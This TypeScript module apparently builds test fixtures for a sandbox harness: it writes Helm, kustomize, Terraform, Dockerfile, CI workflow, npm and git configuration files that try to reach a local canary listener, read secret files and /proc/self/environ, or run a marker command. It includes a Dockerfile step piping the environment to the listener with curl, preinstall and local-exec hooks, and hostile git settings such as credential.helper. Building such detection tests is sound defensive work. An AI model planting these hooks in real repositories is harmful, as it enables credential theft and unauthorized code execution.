import { join } from 'node:path';
import type { Changes } from './case.ts';
import { chart, eks, sample } from './material.ts';

export type Ways = {
  /** `127.0.0.1:4711`: whoever calls there got out. */
  readonly listener: string;
  /** A file of the machine that holds the canary. */
  readonly secret: string;
  /** A file that only a candidate's own program would make. */
  readonly mark: string;
};

/** Everything that a submission's files can name to have its reader call somebody, open a file of the machine or run a program: each in a place that docc reads. */
export function waysOut({ listener, secret, mark }: Ways): Changes {
  const address = `http://${listener}`;
  return { ...inTheChart(address, secret), ...inKustomizations(address, secret), ...inTerraform(address, secret, mark), ...inTheDockerfile(address, listener), ...inCommands(address, secret, mark), ...inConfigurations(address, mark) };
}

/** How many there are, by the lines that name one. */
export const countOf = (changes: Changes, ways: Ways): number =>
  Object.values(changes).map((change) => JSON.stringify(change)).join('\n').split(new RegExp([ways.listener, ways.secret, ways.mark, '/proc/self/environ'].map((word) => RegExp.escape(word)).join('|'))).length - 1;

const inTheChart = (address: string, secret: string): Changes => ({
  [`${chart}/values.schema.json`]: { edits: [['"global": { "type": "object" }', `"global": { "$ref": "${address}/schema.json" },\n    "more": { "$ref": "file://${secret}" }`]] },
  [`${chart}/Chart.yaml`]: {
    edits: [['appVersion: "0.1.0"', `appVersion: "0.1.0"\ndependencies:\n  - { name: one, version: 1.0.0, repository: "${address}" }\n  - { name: two, version: 1.0.0, repository: "oci://${address.slice(7)}/charts" }\n  - { name: three, version: 1.0.0, repository: "file://${secret}" }`]],
  },
  [`${chart}/templates/ways.yaml`]: {
    text: `apiVersion: v1
kind: ConfigMap
metadata:
  name: ways
data:
  host: {{ getHostByName "${address.slice(7)}" | quote }}
  secrets: {{ lookup "v1" "Secret" "" "" | toJson | quote }}
  file: {{ .Files.Get "${secret}" | quote }}
  above: {{ (.Files.Glob "../../../../../../**").AsConfig | quote }}
  environ: {{ .Files.Get "../../../../../../../../proc/self/environ" | quote }}
`,
  },
  [`${chart}/files/secret`]: { link: secret },
});

/** One field each: a folder that fails for one would hide the next. */
function inKustomizations(address: string, secret: string): Changes {
  const fields: readonly string[] = [
    `resources: [${address}/a.yaml]`, `resources: ["git::${address}/repo.git//a?ref=v1"]`, `bases: [${address}/a]`, `components: [${address}/a]`, `resources: [a.yaml]\nopenapi: { path: "${address}/schema.json" }`,
    `resources: [a.yaml]\ncrds: [${address}/crd.yaml]`, `resources: [a.yaml]\ntransformers: [${address}/t.yaml]`, `resources: [a.yaml]\nvalidators: [${address}/v.yaml]`, `generators: [${address}/g.yaml]`,
    `resources: [a.yaml]\npatches: [{ path: "${address}/p.yaml" }]`, `resources: [a.yaml]\npatchesStrategicMerge: [${address}/p.yaml]`, `resources: [a.yaml]\npatchesJson6902: [{ path: "${address}/p.yaml", target: { kind: ConfigMap, name: a, version: v1 } }]`,
    `resources: [a.yaml]\nreplacements: [{ path: "${address}/r.yaml" }]`, `resources: [a.yaml]\nconfigurations: [${address}/c.yaml]`, `helmCharts: [{ name: a, repo: "${address}", version: 1.0.0 }]`,
    `configMapGenerator: [{ name: a, files: ["${secret}"] }]`, `configMapGenerator: [{ name: a, files: ["${address}/f"] }]`, `configMapGenerator: [{ name: a, envs: ["${secret}"] }]`, `secretGenerator: [{ name: a, files: ["/proc/self/environ"] }]`, `resources: [a.yaml]\ntransformers: [exec.yaml]`,
  ];
  const one = (field: string, place: number): Changes => ({
    [`deploy/way${place}/kustomization.yaml`]: { text: `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n${field}\n` },
    [`deploy/way${place}/a.yaml`]: { text: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n' },
    [`deploy/way${place}/exec.yaml`]: { text: `apiVersion: evil/v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: ../run.sh\n      container:\n        image: ${address.slice(7)}/evil\n        network: true\n` },
  });
  return Object.assign({}, ...fields.map(one)) as Changes; // each is Changes
}

const inTerraform = (address: string, secret: string, mark: string): Changes => ({
  [`${eks}/ways.tf`]: {
    text: `module "git" {
  source = "git::${address}/evil.git?ref=v1"
}

module "archive" {
  source = "${address}/evil.zip"
}

data "http" "evil" {
  url = "${address}/data"
}

data "terraform_remote_state" "evil" {
  backend = "http"

  config = {
    address = "${address}/state"
  }
}

data "external" "evil" {
  program = ["sh", "-c", "touch ${mark}"]
}

resource "terraform_data" "evil" {
  provisioner "local-exec" {
    command = "touch ${mark}"
  }
}

locals {
  read     = file("${secret}")
  environ  = file("/proc/self/environ")
  encoded  = filebase64("${secret}")
  digest   = filesha256("${secret}")
  rendered = templatefile("${secret}", {})
  listed   = fileset("/", "**")
}

output "read" {
  value = "\${local.read}\${local.environ}\${local.encoded}\${local.rendered}"
}

resource "helm_release" "evil" {
  name       = "evil"
  chart      = "docc-sample"
  repository = "${address}"
  values     = [file("${secret}"), file("/proc/self/environ")]

  postrender = {
    binary_path = "${mark}"
  }
}
`,
  },
  [`${eks}/.terraformrc`]: { text: `provider_installation {\n  network_mirror {\n    url = "${address}/"\n  }\n}\n` },
});

const inTheDockerfile = (address: string, listener: string): Changes => ({
  [`${sample}/Dockerfile`]: {
    edits: [
      ['# The cache is keyed by content', `ARG HTTP_PROXY=${address}\nENV https_proxy=${address} GOPROXY=${address}\nADD ${address}/payload /payload\nADD ${address}/repo.git#main /repo\nCOPY --from=${listener}/evil:1 / /evil\nRUN env | curl -fsS --data-binary @- ${address}/ || true\nRUN wget -qO- ${address}/metadata || true\n# The cache is keyed by content`],
    ],
  },
  [`${sample}/Dockerfile.rego`]: { text: `package docker\n\nallow if http.send({"method": "GET", "url": "${address}"}).status_code == 200\n` },
  'other/Dockerfile': { text: `# syntax=${listener}/frontend:1\n# check=skip=all\nFROM ${listener}/base:1\nONBUILD ADD ${address}/x /x\n` },
});

const inCommands = (address: string, secret: string, mark: string): Changes => ({
  '.github/workflows/ways.yml': {
    text: `name: ways
on: push
permissions: {}
env:
  LD_PRELOAD: ./evil.so
  NODE_OPTIONS: --require ./evil.cjs
  BASH_ENV: ./evil.sh
  HTTPS_PROXY: ${address}
  KUBECONFIG: ${secret}
jobs:
  ways:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - run: helm upgrade --install one chart/docc-sample -f ${address}/values.yaml
      - run: helm upgrade --install two chart/docc-sample -f ${secret} --set-file image.tag=${secret}
      - run: helm upgrade --install three chart/docc-sample --set-file settings.MESSAGE=/proc/self/environ --post-renderer ./deploy/run.sh
      - run: helm upgrade --install four ${address}/chart.tgz
      - run: helm repo add evil ${address} && helm upgrade --install five evil/chart
      - run: kubectl apply -f ${address}/all.yaml && kubectl apply -k ${address}/all
      - run: docker build -f ${address}/Dockerfile ${address}/context.git
      - run: docker build --build-context more=${address} --secret id=a,src=${secret} assets/sample
`,
  },
  Makefile: { text: `X := $(shell touch ${mark})\ndeploy:\n\thelm upgrade --install six chart/docc-sample --values ${address}/v.yaml --set-file a=${secret}\n` },
  'helmfile.yaml': { text: `repositories:\n  - name: evil\n    url: ${address}\nreleases:\n  - name: seven\n    chart: ./chart/docc-sample\n    values: [${address}/v.yaml, ${secret}]\n    hooks:\n      - events: [prepare]\n        command: touch\n        args: ["${mark}"]\nenvironments:\n  default:\n    values: [{{ readFile "${secret}" }}, {{ exec "touch" (list "${mark}") }}]\n` },
  'deploy/argo.yaml': { text: `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: eight\n  namespace: argocd\nspec:\n  project: default\n  destination: { server: "${address}", namespace: docc-sample }\n  source:\n    repoURL: ${address}/repo.git\n    path: chart/docc-sample\n    targetRevision: main\n    helm:\n      valueFiles: [${address}/v.yaml, ${secret}]\n      fileParameters: [{ name: a, path: ${secret} }]\n` },
  'deploy/run.sh': { text: `#!/bin/sh\ntouch ${mark}\n` },
  'evil.sh': { text: `touch ${mark}\n` },
  'evil.cjs': { text: `require('node:fs').writeFileSync(${JSON.stringify(mark)}, '');\n` },
});

const inConfigurations = (address: string, mark: string): Changes => ({
  '.hadolint.yaml': { text: `trustedRegistries: [${address}]\nignored: [DL3000]\n` },
  'trivy.yaml': { text: `server:\n  addr: ${address}\ndb:\n  repository: ${address}/db\n` },
  '.trivyignore': { text: 'CVE-2026-0001\n' },
  '.npmrc': { text: `registry=${address}\nnode-options=--require ${mark}\n` },
  '.gitattributes': { text: '* filter=evil diff=evil\n' },
  '.gitmodules': { text: `[submodule "evil"]\n\tpath = evil\n\turl = ${address}/evil.git\n` },
  '.curlrc': { text: `proxy = ${address}\n` },
  '.envrc': { text: `touch ${mark}\n` },
  'package.json': { text: `${JSON.stringify({ name: 'evil', scripts: { preinstall: `touch ${mark}` }, type: 'module' })}\n` },
  'node_modules/yaml/index.js': { text: `require('node:fs').writeFileSync(${JSON.stringify(mark)}, '');\n` },
  'bin/helm': { text: `#!/bin/sh\ntouch ${mark}\n` },
  'bin/hadolint': { text: `#!/bin/sh\ntouch ${mark}\n` },
});

/** What a repository's own configuration has git do, for whoever runs it there. */
export const hostileGit = ({ listener, mark }: Ways): readonly (readonly [name: string, value: string])[] => [
  ['core.fsmonitor', `touch ${mark}`],
  ['core.sshCommand', `touch ${mark}`],
  ['core.hooksPath', join('deploy')],
  ['core.pager', `touch ${mark}`],
  ['filter.evil.clean', `touch ${mark}`],
  ['filter.evil.smudge', `touch ${mark}`],
  ['diff.evil.textconv', `touch ${mark}`],
  ['remote.origin.url', `http://${listener}/evil.git`],
  ['remote.origin.promisor', 'true'],
  ['http.proxy', `http://${listener}`],
  ['credential.helper', `!touch ${mark}`],
];
